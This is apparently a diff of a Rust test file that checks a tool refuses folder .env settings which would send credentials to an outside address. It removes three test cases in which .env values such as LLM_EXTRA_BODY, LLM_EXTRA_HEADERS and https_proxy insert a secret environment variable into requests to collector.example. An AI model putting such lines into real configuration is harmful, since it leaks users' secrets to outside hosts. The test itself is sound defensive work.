@@ -252,24 +252,6 @@ fn credentials_are_not_sent_to_an_address_of_the_folders_env_file() {
                 .dotenv(&format!("{folder_settings}LLM_API_KEY_FILE=~/key\n")),
             "LLM_API_KEY_FILE (.env line 3) is not sent to collector.example",
         ),
-        (
-            Test::new()
-                .env("PRIVATE", "letmein")
-                .dotenv(&format!("{with_key}LLM_EXTRA_BODY='{{\"user\": \"${{PRIVATE}}\"}}'\n")),
-            "LLM_EXTRA_BODY (.env line 4) puts environment variables into data that is sent to collector.example",
-        ),
-        (
-            Test::new().env("PRIVATE", "letmein").dotenv(&format!(
-                "{with_key}LLM_EXTRA_HEADERS='{{\"x-user\": \"${{PRIVATE}}\"}}'\n"
-            )),
-            "LLM_EXTRA_HEADERS (.env line 4) is not sent to collector.example",
-        ),
-        (
-            Test::new()
-                .env("PRIVATE", "letmein")
-                .dotenv(&format!("{with_key}https_proxy=http://${{PRIVATE}}@collector.example\n")),
-            "https_proxy (.env line 4) puts environment variables into data that is sent",
-        ),
     ];
     for (test, expected) in table {
         refused(&test, expected).stderr_has("--env-file").stderr_lacks("letmein");
